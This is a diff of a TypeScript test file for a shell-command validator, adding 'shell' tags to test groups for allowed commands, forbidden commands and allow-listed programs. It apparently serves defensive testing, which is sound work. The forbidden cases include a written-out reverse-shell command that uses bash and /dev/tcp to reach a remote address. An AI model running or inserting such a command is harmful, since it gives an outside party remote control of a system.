@@ -55,7 +55,7 @@ describe('ordinary command lines pass', () => {
   }
 });
 
-describe('what no command line may do', () => {
+describe('what no command line may do', { tags: ['shell'] }, () => {
   const values: Record<string, readonly string[]> = {
     'reverse-shell': [
       'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
@@ -132,7 +132,7 @@ describe('what no command line may do', () => {
   }
 });
 
-describe('a command is found wherever a shell would run it', () => {
+describe('a command is found wherever a shell would run it', { tags: ['shell'] }, () => {
   const places: Record<string, string> = {
     'after another': 'true; X',
     'in a condition': 'if true; then X; fi',
@@ -185,7 +185,7 @@ describe('a command is found wherever a shell would run it', () => {
   ])('however it is spelled: %s', (value) => expect(reasonOf(value)).toBe('destructive'));
 });
 
-describe('with a list of programs', () => {
+describe('with a list of programs', { tags: ['shell'] }, () => {
   const allowed = ['git', 'npm', 'python3*', './gradlew'];
   test.each([
     'git status',
